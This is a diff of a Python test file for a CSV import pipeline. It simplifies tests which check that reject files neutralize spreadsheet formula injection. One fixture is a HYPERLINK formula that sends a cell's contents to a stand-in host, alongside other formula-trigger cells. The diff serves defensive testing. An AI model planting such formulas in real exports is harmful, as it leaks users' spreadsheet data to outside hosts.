@@ -5,7 +5,7 @@ import io
 from pathlib import Path
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 
 from pipelines.imports.open import REJECT_COLUMNS, count_reject_columns, open_input_table
@@ -128,14 +128,6 @@ def test_a_row_of_another_width_is_refused_again_until_it_is_fixed(tmp_path: Pat
     assert row.cells == ("B", "1", "2", "3", *WHY)
 
 
-def test_the_rejects_of_a_reject_file_tell_their_reasons_anew(tmp_path: Path) -> None:
-    first = rejected(tmp_path, b"code;price\nA;x\nB;y\n", [2, 3])
-    again = rejected(tmp_path, first, [2 + first.startswith(b"sep=")])
-    assert again.splitlines()[-2] == b"code;price;line;field;code;words"
-    assert again.splitlines()[-1] == b"A;x;" + again.splitlines()[-1].split(b";", 2)[2]
-    assert again.count(b"not_a_number") == 1
-
-
 def test_columns_of_these_names_that_the_mapping_names_are_the_files_own(tmp_path: Path) -> None:
     names = ("sku", "line", "field", "code", "words")
     mapping = Mapping("variants", {name: MappedColumn(name, None) for name in names})
@@ -148,32 +140,22 @@ def test_columns_of_these_names_that_the_mapping_names_are_the_files_own(tmp_pat
 FORMULA = '=HYPERLINK("http://x.test/?"&A1)'
 
 
-@pytest.mark.parametrize("kind", ["header", "no header"])
-def test_no_cell_of_a_reject_file_runs_in_a_spreadsheet_and_it_is_read_as_it_was(tmp_path: Path, kind: str) -> None:
+def test_no_cell_of_a_reject_file_runs_in_a_spreadsheet_and_it_is_read_as_it_was(tmp_path: Path) -> None:
     cells = (FORMULA, "-5", "'=1", "@x", "\t+1", "+34 600 112 233", "-1+2")
-    options = ReadOptions(delimiter=";", quote='"', header_row=1 if kind == "header" else 0)
-    source = io.StringIO()
-    csv.writer(source, delimiter=";").writerows([("=a", "b", "c", "d", "e", "f", "g"), cells][kind != "header" :])
-    line = 2 if kind == "header" else 1
-    written = rejected(tmp_path, source.getvalue().encode(), [line], options).decode()
+    options, source = ReadOptions(delimiter=";", quote='"', header_row=1), io.StringIO()
+    csv.writer(source, delimiter=";").writerows([("=a", "b", "c", "d", "e", "f", "g"), cells])
+    written = rejected(tmp_path, source.getvalue().encode(), [2], options).decode()
     rows = list(csv.reader(io.StringIO(written), delimiter=";"))
-    runs = [cell for row in rows for cell in row if neutralize(cell) != cell]
-    assert runs == []
-    assert "-5" in rows[-1]
-    assert "+34 600 112 233" in rows[-1]
+    assert [cell for row in rows for cell in row if neutralize(cell) != cell] == []
+    assert {"-5", "+34 600 112 233"} <= {*rows[-1]}
     again = open_input_table(tmp_path / REJECTS_FILE, options, None)
     (row,) = again.rows()
     assert isinstance(row, Row)
-    if kind == "header":
-        assert again.columns[0] == "=a"
-        assert row.cells[:7] == cells
-        (table,) = again.batches()
-        assert [table[name][0].as_py() for name in again.columns[:7]] == list(cells)
-    else:
-        assert tuple(cell.strip(" ") for cell in row.cells) == cells
+    assert (again.columns[0], row.cells[:7]) == ("=a", cells)
+    (table,) = again.batches()
+    assert [table[name][0].as_py() for name in again.columns[:7]] == list(cells)
 
 
-@settings(deadline=None, max_examples=30)
 @given(
     cells=st.lists(
         st.lists(
